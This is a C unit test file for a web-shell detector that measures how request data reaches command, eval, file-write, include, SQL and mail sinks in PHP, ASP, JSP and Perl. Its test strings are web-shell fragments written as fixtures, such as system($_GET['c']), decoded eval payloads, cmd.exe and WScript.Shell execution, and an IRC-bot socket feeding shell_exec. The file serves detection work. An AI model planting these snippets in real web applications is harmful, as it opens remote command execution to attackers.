/* SPDX-License-Identifier: LGPL-2.1-or-later */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "analysis/webshape.h"

static struct webshape shape(const char *s)
{
        struct webshape m;

        webshape_measure(s, strlen(s), &m);
        return m;
}

static void test_language(void **state)
{
        (void)state;
        assert_int_equal(webshape_language("<?php echo 1;", 13), WEBSHAPE_PHP);
        assert_int_equal(webshape_language("<?xml version='1.0'?><a/>", 25), WEBSHAPE_NONE);
        const char *jsp = "<%@ page import=\"java.io.*\" %><% out.print(1); %>";
        assert_int_equal(webshape_language(jsp, strlen(jsp)), WEBSHAPE_JSP);
        const char *asp = "<%@ Page Language=\"C#\" %><% Response.Write(1); %>";
        assert_int_equal(webshape_language(asp, strlen(asp)), WEBSHAPE_ASP);
        /* a JSP document (JSPX) has no <%: its code is in jsp:scriptlet elements */
        const char *jspx = "<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"2.0\">"
                           "<jsp:scriptlet>out.println(1);</jsp:scriptlet></jsp:root>";
        assert_int_equal(webshape_language(jspx, strlen(jspx)), WEBSHAPE_JSP);
        assert_int_equal(webshape_language("#!/usr/bin/perl\nprint 1;\n", 25), WEBSHAPE_PERL);
        assert_int_equal(webshape_language("var a = 1; // plain script", 26), WEBSHAPE_NONE);
        /* ASP.NET's server blocks in any case and spacing the rules' regex reads */
        static const char *const runat[] = {
                "<script runat=\"server\">x</script>", "<script RunAt=\"Server\">x</script>",
                "<script runat = 'server'>x</script>", "<SCRIPT RUNAT=SERVER>x</SCRIPT>"};
        for (size_t i = 0; i < sizeof(runat) / sizeof(runat[0]); i++)
                assert_int_equal(webshape_language(runat[i], strlen(runat[i])), WEBSHAPE_ASP);
        assert_int_equal(webshape_language("<script run=server runat=client>", 32), WEBSHAPE_NONE);
        assert_int_equal(webshape_language("x=1; runat", 10), WEBSHAPE_NONE);
        struct webshape m = shape("function f() { eval(location.hash); }");
        assert_int_equal(m.language, 0);
        assert_int_equal(m.sources, 0);
        assert_int_equal(m.bytes, 0);
}

static void test_php_flows(void **state)
{
        (void)state;
        /* directly, through a variable, through decoders, in a double-quoted string, in
         * backticks */
        struct webshape m = shape("<?php\n"
                                  "system($_GET['c']);\n"
                                  "$x = base64_decode($_POST['z']); eval(gzinflate($x));\n"
                                  "$c = $_REQUEST['c']; passthru(\"$c 2>&1\");\n"
                                  "echo `$c`;\n");
        assert_int_equal(m.language, WEBSHAPE_PHP);
        assert_int_equal(m.taint_exec, 3);
        assert_int_equal(m.taint_eval, 1);
        assert_int_equal(m.sources, 3);
        assert_int_equal(m.sink_calls, 4);
        assert_true(m.caps & WEBSHAPE_CAP_EXEC);
        assert_true(m.caps & WEBSHAPE_CAP_EVAL);

        /* the sanitizers stop it; a comparison or a check is no flow; a method of the same
         * name (PDO's exec) is not the sink */
        m = shape("<?php\n"
                  "exec('ls ' . escapeshellarg($_GET['d']));\n"
                  "if (isset($_GET['q']) && $_GET['q'] == 'x') { system('uptime'); }\n"
                  "$n = intval($_POST['n']); system(\"kill $n\");\n"
                  "$db->exec($_POST['sql']);\n"
                  "$f = $_GET['exact'] ? 'strcmp' : 'strpos'; $f($a, $b);\n");
        assert_int_equal(m.taint_exec, 0);
        assert_int_equal(m.taint_callee, 0);
        assert_int_equal(m.taint_dynamic, 0);
        assert_int_equal(m.sink_calls, 3);
        /* backticks around quotes are SQL's name quoting out of step (as the normaliser may
         * leave a literal it rewrote), not a command */
        m = shape("<?php $t = $_GET['t']; $q = `\" . $t . \"`;");
        assert_int_equal(m.taint_exec, 0);
}

static void test_php_callees(void **state)
{
        (void)state;
        struct webshape m = shape("<?php $f = $_REQUEST['f']; $f($_REQUEST['a']);\n"
                                  "$_GET['x']($_GET['y']);\n"
                                  "call_user_func($_POST['cb'], 'x');\n"
                                  "array_map('trim', $_POST);\n"
                                  "usort($a, function ($x, $y) { return $_GET['o']; });\n");
        assert_int_equal(m.taint_callee, 3);
        assert_int_equal(m.var_calls, 1);

        /* a literal callee that names a sink runs what the other arguments hold */
        m = shape("<?php array_map('assert', (array)$_REQUEST['x']);");
        assert_int_equal(m.taint_eval, 1);
        assert_int_equal(m.taint_callee, 0);
        /* as the normaliser writes a name a variable held */
        m = shape("<?php 'system'($_get['c']);");
        assert_int_equal(m.taint_exec, 1);
        /* a variable function given the request */
        m = shape("<?php $p = 'as' . 'sert'; $p(urldecode($_REQUEST['v']));");
        assert_int_equal(m.taint_dynamic, 1);
        /* inside a function's body, a name of the request's elsewhere may be a parameter: only
         * the request read in the call counts there */
        m = shape("<?php $fn = $_FILES['f']['name'];\n"
                  "function save($fn, $move) { if ($move($fn)) { return 1; } }\n"
                  "function run($f) { $f($_POST['x']); }\n"
                  "if ($x) { $g = 'h'; $g($fn); }\n");
        assert_int_equal(m.taint_dynamic, 2);
        /* ReflectionFunction of a name the request gives, invoked; of a literal it is not */
        m = shape("<?php $p = json_decode($_GET['p'], true);\n"
                  "$r = new ReflectionFunction($p['a']); $r->invoke($p['b']);\n");
        assert_int_equal(m.taint_callee, 1);
        m = shape("<?php $r = new ReflectionFunction('strlen'); echo $r->getName();");
        assert_int_equal(m.taint_callee, 0);
        /* new $class(...) and $obj->$method(...) are not functions the request names */
        m = shape("<?php $c = $_GET['c']; $o = new $c(); $m = $_GET['m']; $o->$m();");
        assert_int_equal(m.taint_callee, 0);
        assert_int_equal(m.taint_dynamic, 0);
        /* a request key that picks a registry's entry: the callee is the registry's
         * (WordPress's admin.php); the request's own array indexed is still the request */
        m = shape("<?php $i = $_GET['import'];\n"
                  "call_user_func($wp_importers[$i][2]);\n"
                  "$cb = $handlers[$_POST['a']]; $cb();\n");
        assert_int_equal(m.taint_callee, 0);
        assert_int_equal(m.taint_dynamic, 0);
        m = shape("<?php $k = 'f'; call_user_func($_GET[$k], $_GET['a']);");
        assert_int_equal(m.taint_callee, 1);
        m = shape("<?php $a = $_POST; $f = $a['f']; $f($a['x']);");
        assert_true(m.taint_callee + m.taint_dynamic >= 1);
        /* PHP's names keep their case: $this->_post, and $_post the file assigns, are the
         * file's own */
        m = shape("<?php $_post = get_post($id); $f = $_post->filter; $f($x);\n"
                  "$g = $this->_post['cb']; $g($y);\n");
        assert_int_equal(m.sources, 0);
        assert_int_equal(m.taint_callee + m.taint_dynamic, 0);
        m = shape("<?php $f = $_POST['f']; $f($_POST['x']);");
        assert_int_equal(m.sources, 2);
        /* a cast to a number is intval: (int) $_GET['num'] glued into a registry's key does
         * not make the registry's callbacks the request's (WordPress's widgets-form.php) */
        m = shape("<?php $n = (int) $_GET['num']; $c['id'] = $c['base'] . '-' . $n;\n"
                  "$reg[$c['id']] = $c; $cb = $reg['x']['callback']; call_user_func($cb, 1);\n"
                  "system('kill ' . ( int )$_POST['pid']);\n");
        assert_int_equal(m.taint_callee, 0);
        assert_int_equal(m.taint_exec, 0);
        /* other casts keep it: (string) and (array) are still the request's text */
        m = shape("<?php system((string) $_GET['c']); $a = (array) $_POST['f']; $a[0]($a[1]);");
        assert_int_equal(m.taint_exec, 1);
}

static void test_php_writes_and_includes(void **state)
{
        (void)state;
        struct webshape m = shape("<?php\n"
                                  "$path = $_POST['p'];\n"
                                  "move_uploaded_file($_FILES['f']['tmp_name'], $path);\n"
                                  "fwrite(fopen($path, 'w'), $_POST['d']);\n"
                                  "$h = fopen($_GET['r'], 'r');\n"
                                  "include $_GET['page'] . '.php';\n"
                                  "require_once dirname(__FILE__) . '/x.php';\n"
                                  "extract($_REQUEST); system($anything);\n");
        /* move_uploaded_file's target, fwrite's data, fopen for writing */
        assert_int_equal(m.taint_write, 3);
        assert_int_equal(m.taint_include, 1);
        assert_int_equal(m.extract_request, 1);
        assert_int_equal(m.taint_exec, 1);
        assert_true(m.caps & WEBSHAPE_CAP_UPLOAD);
        assert_true(m.caps & WEBSHAPE_CAP_WRITE);

        /* the headers of $_SERVER are the request's, its other entries are not */
        m = shape("<?php eval($_SERVER['HTTP_X_CODE']); include($_SERVER['DOCUMENT_ROOT'] . "
                  "'/a.php'); $r = $_SERVER; assert($r['HTTP_Y']);"
                  " eval(file_get_contents('php://input'));");
        assert_int_equal(m.taint_eval, 3);
        assert_int_equal(m.taint_include, 0);
}

static void test_php_regions(void **state)
{
        (void)state;
        /* only the code between the tags; a ?> in a line comment closes it, in a literal not */
        struct webshape m = shape("<html>system($_GET['x']) <b>it's</b>\n"
                                  "<?php $a = '?>'; // ?> system($_GET['y'])\n"
                                  "?>eval($_POST['z'])<?= $a ?>\n"
                                  "<?php $doc = <<<EOT\n$_GET[q]\nEOT;\nsystem($doc);\n");
        assert_int_equal(m.taint_exec, 1);
        assert_int_equal(m.taint_eval, 0);
        assert_int_equal(m.longest_literal, 8);
}

static void test_asp_jsp_perl(void **state)
{
        (void)state;
        struct webshape m =
                shape("<%@ Page Language=\"C#\" %>\n"
                      "<script runat=\"server\">\n"
                      "void Run(object s, EventArgs e) {\n"
                      "  string c = Request.Form[\"c\"];\n"
                      "  Process.Start(\"cmd.exe\", \"/c \" + c);\n"
                      "  Response.Write(Server.HtmlEncode(Request.QueryString[\"x\"]));\n"
                      "}\n</script>\n");
        assert_int_equal(m.language, WEBSHAPE_ASP);
        assert_int_equal(m.taint_exec, 1);
        assert_int_equal(m.sources, 2);

        /* VBScript: ' comments, statements by line, ADO's .Execute is SQL */
        m = shape("<%@ Language=VBScript %>\n<%\n"
                  "' Execute(Request(\"a\"))\n"
                  "Set sh = Server.CreateObject(\"WScript.Shell\")\n"
                  "cmd = Request.Form(\"cmd\")\n"
                  "sh.Run \"cmd /c \" & cmd, 0\n"
                  "conn.Execute(\"select * from t where id=\" & Request(\"id\"))\n"
                  "Execute(\"update t set a=1 where b=\" & Request(\"b\"))\n"
                  "%>\n");
        assert_int_equal(m.taint_exec, 1);
        assert_int_equal(m.taint_eval, 0);
        /* the request through a string function into ExecuteGlobal (what
         * rules/webshape.yar's webshape_asp_request_to_code reads) */
        m = shape("<%\na = Request(chr(97))\nExecuteGlobal(StrReverse(a))\n%>\n");
        assert_int_equal(m.language, WEBSHAPE_ASP);
        assert_int_equal(m.taint_eval, 1);

        m = shape("<%@ page import=\"java.io.*\" %>\n<%\n"
                  "String cmd = request.getParameter(\"cmd\");\n"
                  "Process p = Runtime.getRuntime().exec(new String[] {\"sh\", \"-c\", cmd});\n"
                  "String path = request.getContextPath();\n"
                  "Runtime.getRuntime().exec(path);\n%>\n");
        assert_int_equal(m.language, WEBSHAPE_JSP);
        assert_int_equal(m.taint_exec, 1);

        m = shape("#!/usr/bin/perl\nuse CGI;\n"
                  "my $q = CGI->new; my $c = $q->param('c');\n"
                  "print `$c`;\nopen(P, \"$c |\");\nsystem $ENV{'QUERY_STRING'};\n"
                  "open(F, \"<$c\");\n# system($c)\n");
        assert_int_equal(m.language, WEBSHAPE_PERL);
        assert_int_equal(m.taint_exec, 3);
}

static void test_php_functions(void **state)
{
        (void)state;
        /* a command wrapper trying each sink in turn, called with the request before and after
         * its body; a code sink reached through a local and a decoder; one function reaching
         * another defined before it */
        struct webshape m =
                shape("<?php\n"
                      "run2($_GET['x']);\n"
                      "function ex($cfe) {\n"
                      "  if (function_exists('exec')) { @exec($cfe, $res); }\n"
                      "  elseif (function_exists('shell_exec')) { $res = @shell_exec($cfe); }\n"
                      "  elseif (function_exists('system')) { @system($cfe); }\n"
                      "  elseif (is_resource($f = @popen($cfe, 'r'))) { $res = fread($f, 1024); }\n"
                      "  return $res;\n"
                      "}\n"
                      "function run2($z) { $q = base64_decode($z); eval($q); }\n"
                      "function outer($a, $b) { return ex(\"$b 2>&1\"); }\n"
                      "echo outer(1, $_POST['cmd']);\n");
        assert_int_equal(m.fn_exec_kinds, 4);
        assert_int_equal(m.fn_exec, 1); /* outer, through ex */
        assert_int_equal(m.fn_eval, 1);
        assert_int_equal(m.taint_exec, 0);

        /* a sanitized parameter, a local given something else, a function never given the
         * request, and a parameter's name outside its function are no flow */
        m = shape("<?php\n"
                  "function safe($a) { $b = escapeshellarg($a); system('ls ' . $b); }\n"
                  "function reset_it($a) { $a = 'uptime'; system($a); }\n"
                  "function log_it($line) { fwrite($GLOBALS['log'], $line); }\n"
                  "safe($_GET['d']); reset_it($_GET['e']); log_it(date('r'));\n"
                  "system($line);\n");
        assert_int_equal(m.fn_exec, 0);
        assert_int_equal(m.fn_write, 0);
        assert_int_equal(m.fn_exec_kinds, 0);
        assert_int_equal(m.taint_exec, 0);

        /* a body's locals hold its parameters until it ends, however many it marked */
        char body[4096] = "<?php function many($p) {";
        for (int k = 0; k < 40; k++)
                snprintf(body + strlen(body), sizeof(body) - strlen(body), " $v%d = $p;", k);
        strcat(body, " }\nfunction other($q) { system($v3); system($v39); }\n"
                     "other($_GET['x']);\n");
        m = shape(body);
        assert_int_equal(m.fn_exec, 0);
        assert_int_equal(m.fn_exec_kinds, 0);

        /* a writer given the request; a method called through -> */
        m = shape("<?php class S { function send($d) { fputs($this->sock, $d . \"\\r\\n\"); } }\n"
                  "$s = new S(); $s->send('MAIL FROM: ' . $_POST['from']);\n");
        assert_int_equal(m.fn_write, 1);
}

static void test_consoles(void **state)
{
        (void)state;
        /* target and data both the request's: directly, and through a handle opened on its path */
        struct webshape m = shape("<?php file_put_contents($_GET['p'], $_POST['d']);\n"
                                  "$h = fopen($_POST['f'], 'w'); fwrite($h, $_POST['t']);\n"
                                  "file_put_contents('/tmp/log', $_POST['d']);\n"
                                  "fwrite(fopen($_GET['q'], 'a'), date('r'));\n");
        assert_int_equal(m.write_both, 2);
        assert_int_equal(m.taint_write, 5);

        /* a connection with the request's credentials and a query of its text; mysqli_query's
         * first argument is the connection, not the query */
        m = shape("<?php $c = mysqli_connect($_POST['h'], $_POST['u'], $_POST['p']);\n"
                  "mysqli_query($c, 'set names utf8');\n"
                  "$r = mysqli_query($c, $_POST['sql']);\n");
        assert_int_equal(m.taint_connect, 1);
        assert_int_equal(m.taint_query, 1);
        m = shape("<?php $c = mysqli_connect('localhost', 'app', $pw);\n"
                  "mysqli_query($c, 'select 1'); mysql_query(\"select * from t where id=\" . "
                  "intval($_GET['id']));\n");
        assert_int_equal(m.taint_connect, 0);
        assert_int_equal(m.taint_query, 0);

        /* ASP.NET: the connection string from a text box or the query string */
        m = shape("<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n"
                  "void Go(object s, EventArgs e) {\n"
                  "  SqlConnection c = new SqlConnection();\n"
                  "  c.ConnectionString = txtConnection.Text;\n"
                  "  var d = new OleDbConnection(Request.QueryString[\"cs\"]);\n"
                  "  var k = new SqlConnection(ConfigurationManager.AppSettings[\"db\"]);\n"
                  "}\n</script>\n");
        assert_int_equal(m.taint_connect, 2);

        /* a mass mailer sends to the list the request gives; a contact form to itself */
        m = shape("<?php $to = explode(\"\\n\", $_POST['emails']);\n"
                  "foreach ($to as $e) { mail($e, $_POST['subject'], $_POST['body']); }\n"
                  "mail('admin@example.org', $_POST['subject'], $_POST['message']);\n");
        assert_int_equal(m.taint_mail, 1);

        /* an HtmlInputText's .Value is the client's in an ASP.NET page; a recordset field's
         * .Value in classic ASP is not */
        m = shape("<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n"
                  "void Pack(object s, EventArgs e) {\n"
                  "  Process.Start(txtRarPath.Value, \" a -y \" + txtOutPath.Value);\n"
                  "  lbStatus.Value = \"done\";\n}\n</script>\n");
        assert_int_equal(m.taint_exec, 1);
        m = shape("<%\nSet sh = Server.CreateObject(\"WScript.Shell\")\n"
                  "sh.Run rs(\"cmd\").Value, 0\n%>\n");
        assert_int_equal(m.taint_exec, 0);
        assert_int_equal(m.sources, 0);
}

static void test_sockets(void **state)
{
        (void)state;
        /* Perl: what IO::Socket's handle and socket()'s bareword handle sent, to commands; a
         * file's lines are not remote input */
        struct webshape m = shape("#!/usr/bin/perl\nuse IO::Socket;\n"
                                  "my $sock = IO::Socket::INET->new(PeerAddr => 'h:6667');\n"
                                  "while (my $line = <$sock>) { system($line); }\n"
                                  "socket(SOCK, PF_INET, SOCK_STREAM, 6);\n"
                                  "while (<SOCK>) { system($_); }\n"
                                  "open(F, '</etc/hosts'); while (<F>) { system($_); }\n"
                                  "for ($i = 0; $i <$n; $i++) { print $i; }\n");
        assert_int_equal(m.socket_reads, 2);
        assert_int_equal(m.taint_exec, 2);
        assert_int_equal(m.sources, 0);

        /* PHP: an IRC bot's socket read, handed through a method of its own to a command */
        m = shape("<?php class bot {\n"
                  "function start() { $this->conn = fsockopen($this->server, 6667); }\n"
                  "function main() { $this->buf = trim(fgets($this->conn, 512));\n"
                  "  $cmd = explode(' ', $this->buf);\n"
                  "  if ($cmd[3] == ':!sh') { $this->run(substr($this->buf, 10)); } }\n"
                  "function run($c) { shell_exec($c); } }\n"
                  "$f = fopen('x', 'r'); $l = fgets($f); system($l);\n");
        assert_int_equal(m.socket_reads, 1);
        assert_int_equal(m.fn_exec, 1);
        assert_int_equal(m.taint_exec, 0);
}

static void test_merge(void **state)
{
        (void)state;
        struct webshape a = shape("<?php opendir('.'); system($_GET['c']);");
        struct webshape b = shape("<?php mysql_query($q); php_uname();");

        webshape_merge(&a, &b);
        assert_int_equal(a.taint_exec, 1);
        assert_int_equal(a.caps, WEBSHAPE_CAP_LIST | WEBSHAPE_CAP_EXEC | WEBSHAPE_CAP_SQL |
                                         WEBSHAPE_CAP_SYSINFO);
        assert_int_equal(a.cap_count, 4);
}

static void test_hostile(void **state)
{
        (void)state;
        /* unclosed literals, comments, heredocs and calls end at the end */
        const char *const bad[] = {"<?php 'abc",           "<?php /* x",      "<?php <<<EOT\nabc",
                                   "<?php system(",        "<?php ((((((((",  "<% \"a",
                                   "#!/usr/bin/perl\nqx{", "<?php )))]]]}}}", "<?php $"};
        for (size_t k = 0; k < sizeof(bad) / sizeof(bad[0]); k++) {
                struct webshape m = shape(bad[k]);
                assert_true(m.longest_literal <= (int64_t)strlen(bad[k]));
                assert_true(m.bytes <= (int64_t)strlen(bad[k]));
                assert_true(m.string_pm <= 1000);
        }
        /* deeper than the stack of calls it keeps, and more names than it remembers */
        size_t n = 200 * 8 + 64;
        char *deep = malloc(n), *p = deep;
        assert_non_null(deep);
        p += sprintf(p, "<?php ");
        for (int k = 0; k < 200; k++)
                p += sprintf(p, "eval(");
        p += sprintf(p, "$_GET['x']");
        struct webshape m = shape(deep);
        assert_true(m.taint_eval >= 1);
        free(deep);

        size_t big = 4096 * 40;
        char *names = malloc(big);
        assert_non_null(names);
        p = names + sprintf(names, "<?php ");
        for (int k = 0; k < 4000; k++)
                p += sprintf(p, "$v%d = $_GET['a'];", k);
        sprintf(p, "system($v1);");
        m = shape(names);
        assert_int_equal(m.taint_exec, 1);
        free(names);
}

int main(void)
{
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_language),
                cmocka_unit_test(test_php_flows),
                cmocka_unit_test(test_php_callees),
                cmocka_unit_test(test_php_writes_and_includes),
                cmocka_unit_test(test_php_regions),
                cmocka_unit_test(test_asp_jsp_perl),
                cmocka_unit_test(test_php_functions),
                cmocka_unit_test(test_consoles),
                cmocka_unit_test(test_sockets),
                cmocka_unit_test(test_merge),
                cmocka_unit_test(test_hostile),
        };
        return cmocka_run_group_tests(tests, NULL, NULL);
}
